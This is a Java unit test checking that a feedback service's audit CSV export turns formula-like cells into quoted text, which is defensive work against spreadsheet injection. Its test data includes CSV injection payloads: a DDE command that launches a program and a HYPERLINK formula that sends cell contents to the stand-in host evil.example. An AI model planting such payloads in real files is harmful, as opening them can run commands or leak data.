package fi.lupaus.console;

import static fi.lupaus.console.TestServer.feedback;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Arrays;
import java.util.List;
import java.util.Map;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpResponse;

/** What the audit export gives a spreadsheet: text, never a formula the data smuggled in. */
@Timeout(120)
@Tag("store")
class ExportTest {

    private static final Instant NOW = Instant.parse("2026-11-20T10:16:00Z");

    @TempDir
    Path dataDir;

    private TestServer server;
    private String auditor;

    @BeforeEach
    void start() {
        server = TestServer.start(dataDir, Clock.fixed(NOW, ZoneOffset.UTC));
        auditor = server.newToken("auditor");
    }

    @AfterEach
    void stop() {
        server.close();
    }

    @Test
    void cellsThatASpreadsheetWouldRunAsFormulasAreExportedAsQuotedText() throws Exception {
        // id → the comment it carries; ids and orders that start like formulas too.
        Map<String, String> comments = Map.of(
                "fb-cmd", "=cmd|'/C calc'!A0",
                "fb-link", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Kiitos\")",
                "fb-plus", "+1+1",
                "fb-minus", "-2+3",
                "fb-at", "@SUM(1+1)",
                "fb-tab", "\t=1+1",
                "fb-cr", "\r=1+1",
                "fb-quote", "'=1+1",
                "fb-fine", "Hyvä palvelu = hyvä mieli");
        comments.forEach((id, comment) -> assertThat(server.post("/api/feedback",
                feedback(id, "C-x", "NPS", 9).put("comment", comment)).statusCode()).as(id).isEqualTo(201));
        assertThat(server.post("/api/feedback", feedback("-1+1", "=C-1", "NPS", 9).put("orderId", "@O-1"))
                .statusCode()).isEqualTo(201);

        HttpResponse<Buffer> csv = server.get("/api/audit/export?format=csv", auditor);
        HttpResponse<Buffer> jsonl = server.get("/api/audit/export?format=jsonl", auditor);

        List<CSVRecord> records;
        try (CSVParser parser = CSVParser.parse(csv.bodyAsString(),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            records = parser.getRecords();
        }
        assertThat(records).hasSize(10);
        for (CSVRecord record : records) {
            String comment = comments.get(record.get("feedbackId"));
            if (comment != null) {
                assertThat(record.get("comment")).as(record.get("feedbackId"))
                        .isEqualTo(comment.equals("Hyvä palvelu = hyvä mieli") ? comment : "'" + comment);
            }
        }
        CSVRecord formulaIds = records.stream().filter(record -> record.get("feedbackId").equals("'-1+1"))
                .findFirst().orElseThrow();
        assertThat(formulaIds.get("customerId")).isEqualTo("'=C-1");
        assertThat(formulaIds.get("orderId")).isEqualTo("'@O-1");
        // As a spreadsheet sees it: no cell of any line starts with a formula character.
        assertThat(csv.bodyAsString().split("\",\"|\r\n\"|^\""))
                .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
        assertThat(Arrays.stream(jsonl.bodyAsString().split("\n")).map(JsonObject::new)
                .filter(line -> line.getString("feedbackId").equals("fb-cmd")).findFirst().orElseThrow()
                .getJsonObject("feedback").getString("comment"))
                .as("JSON Lines carry the value as recorded").isEqualTo("=cmd|'/C calc'!A0");
    }
}
